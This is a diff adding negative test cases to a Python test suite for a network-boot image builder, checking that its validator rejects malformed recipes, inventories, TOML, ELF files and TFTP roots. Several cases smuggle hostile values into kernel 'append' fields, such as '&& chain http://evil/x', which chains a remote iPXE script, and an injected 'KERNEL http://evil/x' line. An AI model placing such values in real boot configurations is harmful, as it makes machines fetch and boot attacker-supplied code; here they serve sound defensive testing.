@@ -105,6 +105,20 @@ def _bmc(site: Site, mode: int) -> None:
               'bmc = "ipmi://10.1.2.5"\nbmc_user = "admin"\nbmc_password_file = "bmc.pw"')
 
 
+def _malformed_elf(site: Site) -> None:
+    """A copy of an executable whose program headers are said to start near 2**64."""
+    data = Path("/usr/bin/xz").read_bytes()
+    target = site.root / "overlays/gameserver/opt/bad"
+    target.write_bytes(data[:0x20] + (0xFFFFFFFFFFFFFFF0).to_bytes(8, "little") + data[0x28:])
+    target.chmod(0o755)
+
+
+def _nested(path: Path) -> None:
+    """3,000 arrays, one in the other: deeper than Python's TOML reader can recurse."""
+    with path.open("a") as file:
+        file.write("\n[deep]\nx = " + "[" * 3000 + "]" * 3000 + "\n")
+
+
 BUILD = ("build", "{recipe}", "--mirror", "{mirror}", "--cache", "{cache}", "--out", "{out}")
 PUBLISH = ("publish", "{recipe}", "--tftp", "{tftp}", "--mirror", "{mirror}", "--cache",
            "{cache}", "--bootloader-dir", "{boot}")
@@ -173,6 +187,14 @@ CASES = [
     Case("escape in overlay path", lambda s: s.edit(s.recipe, '"../overlays/gameserver"',
                                                     '"../overlays/game\\u001bserver"'),
          BUILD, 2, rf"{RCP}: overlay\[0\]\.source: an escape \(U\+001B\) at character 17; .*"),
+    Case("iPXE operator in append", lambda s: s.edit(
+        s.recipe, 'append = "base norestore', 'append = "base && chain http://evil/x norestore'),
+         PUBLISH, 2, rf"{RCP}: boot\.append: '&&' would chain a command of its own in an iPXE "
+         r"script"),
+    Case("iPXE comment in group append", lambda s: s.edit(
+        s.inventory, 'append = "base norestore', 'append = "base #norestore'),
+         PUBLISH, 2, rf"{INV}: group\.canary\.append: '#norestore' would start a comment in an "
+         r"iPXE script \(the rest is lost\)"),
     Case("newline in group append", lambda s: s.edit(
         s.inventory, 'append = "base norestore', 'append = "base\\nLABEL evil\\n KERNEL '
         'http://evil/x norestore'),
@@ -317,6 +339,22 @@ CASES = [
          rf"{INV}: no host 'server9' \(hosts: server1, server2\)"),
     Case("power without bmc", lambda s: None, POWER, 2,
          rf"{INV}: server1 has no bmc and no power_command \(add bmc = .*"),
+    Case("group is an array", lambda s: s.edit(s.inventory, 'group     = "canary"',
+                                               'group     = ["canary"]'),
+         SERVER, 2, rf"{INV}: host\[1\]\.group: expected a string, got an array"),
+    Case("inventory nested too deeply", lambda s: _nested(s.inventory),
+         SERVER, 2, rf"{INV}: invalid TOML: arrays or inline tables nested too deeply"),
+    Case("recipe nested too deeply", lambda s: _nested(s.recipe),
+         BUILD, 2, rf"{RCP}: invalid TOML: arrays or inline tables nested too deeply"),
+    Case("installed config not utf-8", lambda s: (s.root / "out").mkdir() or (
+        s.root / "out/exports").write_bytes(b"/srv caf\xe9(ro)\n"),
+         (*SERVER, "--check"), 1, r"\S*out/exports: not UTF-8 text \(byte 8\), so not a file "
+         r"tcbuild wrote; nothing to compare with"),
+    # images
+    Case("malformed elf", _malformed_elf, (*BUILD, "--check", "error"), 1,
+         r"/opt/bad \[overlay:\S+\]: a malformed ELF object: its program headers \(\d+ bytes "
+         r"at offset 0xfffffffffffffff0\) lie outside the file \(\d+ bytes\); no loader would "
+         r"map it \(replace the file\)"),
     # TFTP roots
     Case("tftp root missing", lambda s: shutil.rmtree(s.root / "tftp"),
          PUBLISH, 2, r"\S+/tftp: the TFTP root does not exist"),
@@ -383,7 +421,8 @@ def test_bad_input(case: Case, site: Site) -> None:
                   "boot": site.root / "bootloader"}
         args = [a.format(**{k: str(v) for k, v in values.items()}) for a in case.args]
         result = subprocess.run([sys.executable, "-m", "tcbuild", *args], cwd=site.root,
-                                capture_output=True, text=True, timeout=120)
+                                capture_output=True, text=True, timeout=120,
+                                env={**os.environ, "PYTHONPATH": str(ROOT)})  # this tree's
     lines = result.stderr.splitlines()
     assert result.returncode == case.status, result.stderr
     assert len(lines) == 1, lines
